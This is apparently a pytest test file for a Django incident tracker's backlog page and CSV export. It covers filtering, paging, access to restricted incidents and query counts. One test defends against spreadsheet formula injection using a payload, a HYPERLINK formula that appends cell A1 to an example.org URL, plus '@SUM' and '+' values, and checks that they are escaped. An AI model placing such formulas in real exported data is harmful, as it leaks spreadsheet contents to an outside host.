"""The backlog across incidents: filtered, a window at a time, for who may know, and as CSV."""

import csv
from io import StringIO
from typing import Any

import pytest
from django.test import Client

from incidents.models import Incident, Person
from kernel import clock
from retros.backlog import actions as backlog
from retros.models import BacklogItem
from tests.helpers.counting import queries
from tests.helpers.factories import SurfaceFactory, declared
from tests.markup import markup
from tests.retros.backlog.items import NOW, TRACKER, noted

# The test client reads at once what a server streams.
pytestmark = pytest.mark.filterwarnings("ignore:StreamingHttpResponse must consume")


@pytest.fixture(autouse=True)
def _today(db: None) -> Any:
    with clock.at(NOW):
        yield


@pytest.fixture
def signed(client: Client, commander: Person) -> Client:
    client.force_login(commander)
    return client


def titles_on_page(client: Client, query: str = "") -> list[str]:
    """The titles on the page across incidents."""
    return [item.title for item in client.get(f"/backlog/{query}").context["page"]]


def read(client: Client, query: str = "") -> list[dict[str, str]]:
    answer = client.get(f"/backlog/csv/{query}")
    return list(csv.DictReader(StringIO(b"".join(answer).decode("utf-8-sig"), newline="")))


@pytest.fixture
def several(incident: Incident, commander: Person, deputy: Person) -> dict[str, BacklogItem]:
    """One of each kind: in INC of severity 1 on sign-in, the last of severity 3 elsewhere."""
    actor = commander.as_actor()
    surface = SurfaceFactory(name="Sign-in"), SurfaceFactory(name="Gateway")
    incident.surfaces.set(surface)
    minor = declared(commander, title="Slow dashboard", severity="3")
    rows = {
        "mine": noted(incident, "Mine", 5, owner=commander, detail="Queue age"),
        "late": noted(incident, "Late", -5, owner=deputy, tracker=TRACKER),
        "begun": noted(incident, "Begun", 6, owner=deputy),
        "orphan": noted(incident, "Orphan", 7),
        "done": noted(incident, "Done", -9, owner=deputy),
        "dropped": noted(incident, "Dropped", -9, owner=deputy),
        "minor": noted(minor, "Minor", 8, owner=deputy),
    }
    backlog.begin(actor, incident.pk, rows["begun"].pk, now=NOW)
    backlog.finish(actor, incident.pk, rows["done"].pk, now=NOW)
    backlog.drop(actor, incident.pk, rows["dropped"].pk, reason="Covered elsewhere", now=NOW)
    return rows


def test_across_incidents_the_most_urgent_comes_first(
    signed: Client, incident: Incident, commander: Person
) -> None:
    other = declared(commander, title="Another")
    noted(incident, "No day", None)
    noted(incident, "Next month", 30)
    noted(other, "Late", -2)
    noted(other, "Today", 0)

    text = markup(signed.get("/backlog/"))

    assert titles_on_page(signed) == ["Late", "Today", "Next month", "No day"]
    assert "4 open, 1 overdue, 0 done since January." in text
    assert '<span class="is-late">2 days late</span>' in text
    assert '<span class="quiet">today</span>' in text


@pytest.mark.parametrize(
    ("query", "titles"),
    [
        ("", ["Late", "Mine", "Begun", "Orphan", "Minor"]),
        ("?state=open", ["Late", "Mine", "Orphan", "Minor"]),
        ("?state=started", ["Begun"]),
        ("?state=done", ["Done"]),
        ("?state=dropped&state=started", ["Begun", "Dropped"]),
        ("?state=nonsense", ["Late", "Mine", "Begun", "Orphan", "Minor"]),
        ("?due=late", ["Late"]),
        ("?due=late&state=done", []),
        ("?mine=1", ["Mine"]),
        ("?owner=nobody", ["Orphan"]),
        ("?owner={deputy}", ["Late", "Begun", "Minor"]),
        ("?owner={deputy}&mine=1", []),
        ("?severity=3", ["Minor"]),
        ("?surface=sign-in", ["Late", "Mine", "Begun", "Orphan"]),
        ("?q=queue AGE", ["Mine"]),
        ("?q=EDGE-540", ["Late"]),
        ("?q=%EF%BC%A5dge-540", ["Late"]),
        ("?q=hard-{orphan}", ["Orphan"]),
        ("?q=inc-{minor}", ["Minor"]),
        ("?q=%25", []),
    ],
)
def test_the_filter(
    signed: Client,
    several: dict[str, BacklogItem],
    deputy: Person,
    query: str,
    titles: list[str],
) -> None:
    values = {"deputy": deputy.pk, "orphan": several["orphan"].pk}
    query = query.format(minor=several["minor"].incident_id, **values)

    assert titles_on_page(signed, query) == titles
    assert [row["title"] for row in read(signed, query)] == titles


def test_the_page_keeps_its_filter_and_offers_it_as_csv(
    signed: Client, several: dict[str, BacklogItem], deputy: Person
) -> None:
    context_and_text = signed.get(f"/backlog/?owner={deputy.pk}&state=done&q=Done&severity=1")

    text = markup(context_and_text)
    assert (
        f'href="/backlog/csv/?owner={deputy.pk}&amp;state=done&amp;q=Done&amp;severity=1"' in text
    )
    assert f'<option value="{deputy.pk}" selected>' in text
    assert '<input type="checkbox" name="state" value="done" checked>' in text
    assert '<input type="checkbox" name="state" value="open">' in text


def test_items_of_a_restricted_incident_are_for_who_may_know_of_it(
    client: Client, commander: Person, stranger: Person, deputy: Person, admin: Person
) -> None:
    secret = declared(commander, restricted=True, participants=(deputy,))
    item = noted(secret, "Close the leak", -1, owner=commander)
    seen = {}
    for person in (commander, deputy, admin, stranger):
        client.force_login(person)
        page = client.get("/backlog/")
        seen[str(person)] = (
            titles_on_page(client),
            len(read(client)),
            page.context["counts"]["overdue"],
            str(commander) in {str(one) for one in page.context["owners"]},
            secret in page.context["newest"],
            client.get(item.get_absolute_url()).status_code,
            client.get(f"/backlog/add/?incident={secret.pk}").status_code,
        )

    knows = (["Close the leak"], 1, 1, True, True, 200, 302)
    assert seen == {
        "Commander": knows,
        "Deputy": knows,
        "Admin": knows,
        "Stranger": ([], 0, 0, False, False, 404, 404),
    }


@pytest.mark.parametrize(
    ("path", "most"), [("/backlog/", 14), ("/backlog/csv/", 6), ("{room}backlog/", 25)]
)
def test_it_is_asked_as_often_for_sixty_as_for_three(
    signed: Client, incident: Incident, commander: Person, deputy: Person, path: str, most: int
) -> None:
    path = path.replace("{room}", incident.get_absolute_url())
    incidents = [incident, *(declared(commander, title=f"Another {n}") for n in range(4))]
    counts = []
    for several in (range(3), range(3, 60)):
        for number in several:
            owner = deputy if number % 2 else commander
            noted(incidents[number % 5], f"Item {number}", number, owner=owner)
        with queries() as executed:
            assert b"".join(signed.get(path)).count(b"Item ") > 0
        counts.append(len(executed))

    assert counts[0] == counts[1] <= most


def test_pages_are_windows(signed: Client, incident: Incident) -> None:
    for number in range(60):
        noted(incident, f"Item {number}", number)

    first, second = signed.get("/backlog/"), signed.get("/backlog/?page=2")

    assert [len(response.context["page"]) for response in (first, second)] == [30, 30]
    assert "30 of 60 shown" in markup(first)
    assert [len(signed.get(f"/INC-{incident.pk}/backlog/").context["page"])] == [30]


def test_the_csv_says_everything_and_fools_no_spreadsheet(
    signed: Client, incident: Incident, commander: Person
) -> None:
    bad = '=HYPERLINK("https://example.org/?"&A1;"Open")'
    item = noted(incident, bad, 2, owner=commander, tracker=TRACKER, detail="+1\n-2")
    noted(incident, "@SUM(A1)", 3)

    answer = signed.get("/backlog/csv/")
    first, second = read(signed)

    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    assert answer["Content-Disposition"] == 'attachment; filename="backlog-2026-03-05.csv"'
    assert first == {
        "item": item.reference,
        "title": f"'{bad}",
        "detail": "'+1\n-2",
        "incident": incident.reference,
        "incident_title": incident.title,
        "severity": "SEV-1",
        "owner": str(commander),
        "due_on": "2026-03-07",
        "state": "open",
        "tracker": TRACKER,
        "reason": "",
        "created_at": "2025-05-09T15:00:00+00:00",
        "created_by": str(commander),
        "closed_at": "",
    }
    assert second["title"] == "'@SUM(A1)"


def test_a_new_item_begins_with_its_incident(signed: Client, incident: Incident) -> None:
    answer = signed.get(f"/backlog/add/?incident={incident.pk}")

    assert (answer.status_code, answer["Location"]) == (302, f"/INC-{incident.pk}/backlog/")
